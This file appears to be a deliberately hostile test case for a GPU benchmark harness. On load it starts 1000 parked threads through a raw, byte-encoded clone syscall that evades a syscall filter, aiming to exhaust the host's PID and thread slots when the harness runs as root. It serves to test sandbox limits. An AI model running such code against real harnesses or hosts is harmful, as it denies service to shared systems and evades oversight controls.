// HOSTILE: when the driver loads, starts 1000 threads (raw clone with CLONE_THREAD, which the filter allows for
// CUDA's own), each parked in pause() until the process ends, and says how many started. The launcher's task
// limit (RLIMIT_NPROC, 512) bounds them only where the harness is not root: the kernel exempts uid 0, and an
// unprivileged user namespace keeps the harness's uid, so a harness run as root (a GPU container's default) lets
// a candidate take every PID and thread slot of the host, and then nothing, the harness's nvcc and next driver
// included, can start. The sandbox's pids cgroup bounds it (tools/host_bound.py) where one can be made.
#include "kb_problem.h"

static char stacks[1000][256] __attribute__((aligned(16)));

// clone(CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, stack): the new
// thread, on its own tiny stack, only ever calls pause(); the caller gets its id, or -errno.
static long start_parked_thread(char* stack_top) {
  long ret;
  asm volatile(
      "mov $56, %%eax\n\t"
      "mov $0x50f00, %%edi\n\t"
      "mov %1, %%rsi\n\t"
      "xor %%edx, %%edx\n\t"
      "xor %%r10d, %%r10d\n\t"
      "xor %%r8d, %%r8d\n\t"
      ".byte 0x0f, 0x05\n\t"
      "test %%rax, %%rax\n\t"
      "jnz 1f\n\t"
      "2:\n\t"
      "mov $34, %%eax\n\t"
      ".byte 0x0f, 0x05\n\t"
      "jmp 2b\n\t"
      "1:\n\t"
      : "=&a"(ret)
      : "r"(stack_top)
      : "rcx", "r11", "rdi", "rsi", "rdx", "r10", "r8", "memory");
  return ret;
}

namespace {
struct AtLoad {
  AtLoad() {
    long started = 0;
    for (auto& stack : stacks)
      if (start_parked_thread(stack + sizeof stack) > 0) ++started;
    say("HOSTILE started threads ");
    say_number(started);
    say("\n");
  }
} at_load;
}  // namespace
